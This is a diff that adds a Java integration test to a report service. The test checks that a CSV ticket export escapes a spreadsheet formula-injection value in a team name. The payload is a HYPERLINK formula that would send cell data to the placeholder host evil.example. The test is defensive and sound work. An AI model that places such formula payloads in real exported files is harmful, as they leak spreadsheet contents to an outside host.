@@ -80,6 +80,41 @@ class ReportsIT {
     }
 
     @Test
+    @Proves("A-2")
+    void shouldWriteNoWordIntoAFileThatASpreadsheetRuns() {
+        String name = "=HYPERLINK(\"https://evil.example/\"&B1)";
+        ObjectNode defined = JSON.objectNode()
+                .put("id", team.toString())
+                .put("name", name)
+                .put("slug", "team-" + team)
+                .put("visibility", "PORTAL_AND_INTERNAL");
+        defined.putArray("departmentIds").add(department.toString());
+        defined.putArray("memberIds");
+        sender.send("directory", "TeamDefined", team, 1, defined, JSON.objectNode());
+        liveOf(UUID.randomUUID());
+        awaitTickets(department, 1, 1, 1);
+        await().atMost(PATIENCE)
+                .untilAsserted(() -> report("tickets?groupBy=TEAM").body("rows[0].label", Matchers.equalTo(name)));
+
+        String file = given().auth()
+                .oauth2(lead)
+                .queryParam("groupBy", "TEAM")
+                .queryParam("from", "2026-03-01T00:00:00Z")
+                .queryParam("to", "2030-01-01T00:00:00Z")
+                .get("/api/v1/reports/tickets.csv")
+                .then()
+                .statusCode(200)
+                .header(
+                        "Content-Disposition",
+                        "attachment; filename=\"tickets 2026-03-01 to 2030-01-01.csv\";"
+                                + " filename*=UTF-8''tickets%202026-03-01%20to%202030-01-01.csv")
+                .extract()
+                .asString();
+
+        assertThat(file).contains(team + ",\"'=HYPERLINK(\"\"https://evil.example/\"\"&B1)\",1,");
+    }
+
+    @Test
     @Proves({"A-2", "T-17"})
     void shouldTakeAMergedTicketOutOfTheBacklogUntilTheMergeIsUndone() {
         UUID survivor = UUID.randomUUID();
